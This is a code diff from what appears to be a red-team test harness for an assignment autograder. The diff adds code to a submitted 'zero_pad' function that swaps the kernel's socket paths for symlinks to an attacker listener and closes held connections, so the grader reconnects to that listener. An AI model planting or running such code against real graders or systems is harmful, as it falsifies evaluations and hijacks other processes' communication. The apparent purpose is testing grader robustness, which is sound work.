@@ -16,25 +16,18 @@ from . import UNIX_LISTENER
 
 EXPECT = {"zero_pad", "conv_single_step", "conv_forward", "pool_forward", "conv_backward",
           "create_mask_from_window", "distribute_value", "pool_backward"}
-APPEND = {"zero_pad": '''
+# The red team's move, shared with tests/test_socket_paths.py: each socket path of the kernel's connection
+# file, in /tmp/.kernel where a kernel's sockets used to be, becomes a link to `listener`, and every
+# connection the kernel holds is shut down, so that the grader reconnects by path. (Its listeners are left
+# alone: zmq aborts the kernel on a listener that fails, and a dead kernel's /proc/<pid>/root leads nowhere.)
+SWAP_AND_HANG_UP = '''
 
-import glob as _glob
 import json as _json
 import os as _os
 import socket as _socket
-import time as _time
-
-_LISTENER = ''' + repr(UNIX_LISTENER.format(port="{{PORT}}")) + '''
 
 
-def _cnnattack_socket_swap():
-    for _path in _glob.glob("/run/kernel/ipc-*"):
-        for _act in (lambda: _os.unlink(_path), lambda: _os.rename(_path, _path + ".old"),
-                     lambda: _os.symlink(_LISTENER, _path + ".new")):
-            try:
-                _act()
-            except OSError:
-                pass
+def _cnnattack_swap_and_hang_up(listener):
     try:
         _ports = _json.load(open("/tmp/.kernel/kernel.json"))
     except (OSError, ValueError):
@@ -44,7 +37,7 @@ def _cnnattack_socket_swap():
         try:
             if _os.path.lexists(_path):
                 _os.unlink(_path)
-            _os.symlink(_LISTENER, _path)
+            _os.symlink(listener, _path)
         except OSError:
             pass
     for _fd in range(3, 1024):
@@ -64,6 +57,24 @@ def _cnnattack_socket_swap():
             pass
         finally:
             _held.close()
+'''
+
+APPEND = {"zero_pad": SWAP_AND_HANG_UP + '''
+import glob as _glob
+import time as _time
+
+_LISTENER = ''' + repr(UNIX_LISTENER.format(port="{{PORT}}")) + '''
+
+
+def _cnnattack_socket_swap():
+    for _path in _glob.glob("/run/kernel/ipc-*"):
+        for _act in (lambda: _os.unlink(_path), lambda: _os.rename(_path, _path + ".old"),
+                     lambda: _os.symlink(_LISTENER, _path + ".new")):
+            try:
+                _act()
+            except OSError:
+                pass
+    _cnnattack_swap_and_hang_up(_LISTENER)
     _time.sleep(1)
 
 
